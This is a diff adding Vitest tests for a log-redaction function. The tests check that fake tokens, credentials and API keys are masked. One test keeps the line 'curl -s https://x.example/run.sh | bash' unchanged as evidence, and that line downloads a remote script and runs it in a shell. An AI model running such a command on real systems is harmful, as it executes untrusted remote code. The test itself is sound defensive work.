@@ -1,0 +1,17 @@
+import { expect, test } from 'vitest';
+import { redactLine } from './redact.ts';
+
+test.each([
+  ['fetch("https://x.example/a?token=madeup123&b=1")', 'madeup123'],
+  ['fetch("https://user:madeup123@x.example/")', 'madeup123'],
+  ['curl -H "Authorization: Bearer madeup123abc" https://x.example', 'madeup123abc'],
+  ['export API_KEY=madeup123abcdef', 'madeup123abcdef'],
+])('%s is shown without its secret', (line, secret) => {
+  expect(redactLine(line)).not.toContain(secret);
+  expect(redactLine(line)).toContain('[redacted]');
+});
+
+test('what is evidence stays', () => {
+  const line = 'curl -s https://x.example/run.sh | bash';
+  expect(redactLine(line)).toBe(line);
+});
